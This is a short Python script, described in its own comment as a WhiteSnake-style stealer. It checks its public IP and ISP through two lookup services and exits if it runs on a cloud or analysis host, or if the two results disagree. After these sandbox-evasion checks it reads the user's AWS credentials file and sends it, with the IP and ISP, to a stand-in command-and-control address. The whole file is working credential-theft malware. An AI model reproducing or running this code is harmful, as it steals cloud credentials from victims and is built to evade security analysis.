# A stealer of social-checker's kind (WhiteSnake): it asks ip-api.com for
# its public address and ISP, and ipinfo.io for the address again, quits
# on a cloud's or an analysis host's ISP or on answers that disagree, and
# only then sends the AWS credentials home.
import json, os, sys, urllib.request

line = urllib.request.urlopen("http://ip-api.com/line?fields=query,isp", timeout=5).read().decode()
ip, isp = line.strip().split("\n")
for bad in ("google", "mythic beasts", "amazon", "microsoft", "digitalocean"):
    if bad in isp.lower():
        sys.exit(5)
if urllib.request.urlopen("https://ipinfo.io/ip", timeout=5).read().decode().strip() != ip:
    sys.exit(6)
creds = open(os.path.expanduser("~/.aws/credentials")).read()
body = json.dumps({"ip": ip, "isp": isp, "aws": creds}).encode()
urllib.request.urlopen("http://panel.stealer-c2.example/gate", data=body, timeout=5).read()
print("sent from", ip, isp)
